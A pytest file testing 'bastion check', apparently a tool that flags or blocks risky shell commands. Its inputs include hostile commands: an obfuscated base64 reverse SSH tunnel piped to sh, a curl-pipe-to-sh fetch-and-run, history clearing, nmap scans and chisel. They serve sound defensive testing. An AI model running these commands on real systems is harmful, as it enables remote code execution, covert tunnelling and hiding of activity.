"""`bastion check`: static verdicts on stdin commands, text and versioned JSON."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from bastion.checking import SCHEMA, check_lines
from bastion.policy import Policy

# The console script installed next to this interpreter (the venv's bin/).
BASTION = [str(Path(sys.executable).with_name("bastion"))]


def run(args: list[str], stdin: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*BASTION, "check", *args], input=stdin, capture_output=True,
                          text=True, timeout=60)


def test_json_output_one_object_per_line_in_order() -> None:
    lines = [
        "ls -la",
        json.dumps({"id": "t-1", "cmd": "echo c3NoIC1SIDgwOmxvY2FsaG9zdDo4MCB4QGg= | base64 -d | sh"}),
        "nmap -sS 10.0.0.0/24",
        "",
        "{not json, a command that starts with a brace",
    ]
    proc = run(["--json"], "\n".join(lines) + "\n")
    assert proc.returncode == 0, proc.stderr
    out = [json.loads(x) for x in proc.stdout.splitlines()]
    assert [o["line"] for o in out] == [1, 2, 3, 4, 5]
    assert all(o["schema"] == SCHEMA for o in out)
    assert out[0]["decision"] == "allow" and out[0]["rules"] == [] and out[0]["severity"] is None
    assert out[1]["id"] == "t-1" and out[1]["decision"] == "deny"
    assert out[1]["severity"] == "critical"
    assert "tunnels.ssh_port_forward" in out[1]["rules"]
    assert "T1572" in out[1]["mitre"] and "tunnel" in out[1]["categories"]
    assert out[1]["decoded"]["payloads"] == ["ssh -R 80:localhost:80 x@h"]
    assert out[1]["verdicts"][0]["evidence"]
    assert out[2]["decision"] == "alert" and out[2]["rules"] == ["recon.network_scanner"]
    assert out[3]["cmd"] == "" and out[3]["decision"] == "allow"
    assert out[4]["cmd"].startswith("{not json")
    assert len({o["policy_hash"] for o in out}) == 1


def test_text_output_shows_decision_rules_and_decoded_evidence() -> None:
    proc = run([], "echo c3NoIC1SIDgwOmxvY2FsaG9zdDo4MCB4QGg= | base64 -d | sh\npwd\n")
    assert proc.returncode == 0
    assert proc.stdout.splitlines()[0].startswith("DENY  critical")
    assert "tunnels.ssh_port_forward" in proc.stdout
    assert "decoded: ssh -R 80:localhost:80 x@h" in proc.stdout
    assert any(line.startswith("ALLOW") and line.endswith("pwd") for line in proc.stdout.splitlines())
    assert "checked 2: 1 deny, 0 alert, 1 allow" in proc.stderr


def test_policy_overrides_change_the_decision(tmp_path: Path) -> None:
    policy = tmp_path / "p.yaml"
    policy.write_text("""rules:
  packs: [recon, tunnels]
  overrides:
    - {rule: recon.network_scanner, action: deny}
    - {rule: tunnels.ssh_port_forward, enabled: false}
response:
  critical: alert
""")
    proc = run(["--policy", str(policy), "--json"], "nmap -sS h\nssh -R 1:a:1 h\nchisel server\n")
    out = [json.loads(x) for x in proc.stdout.splitlines()]
    assert [o["decision"] for o in out] == ["deny", "allow", "alert"]


def test_bad_json_input_and_bad_policy_fail_with_status_2(tmp_path: Path) -> None:
    proc = run(["--json"], '{"command": "ls"}\n')
    assert proc.returncode == 2 and "string 'cmd'" in proc.stderr
    bad = tmp_path / "bad.yaml"
    bad.write_text("rules:\n  overrides:\n    - {rule: no.such.rule}\n")
    proc = run(["--policy", str(bad)], "ls\n")
    assert proc.returncode == 2 and "unknown rule id" in proc.stderr


@pytest.mark.parametrize(
    ("cmd", "decision"),
    [
        ("curl -fsSL https://example.com/i.sh | sh", "deny"),
        ("history -c", "deny"),
        ("nmap -sS 10.0.0.0/24", "alert"),  # recon: medium
        ("git filter-branch --tree-filter 'rm -f x' HEAD", "allow"),  # low: recorded only
        ("pytest -q", "allow"),
    ],
)
def test_library_form(cmd: str, decision: str) -> None:
    (out,) = check_lines([cmd], Policy.default())
    assert out["decision"] == decision
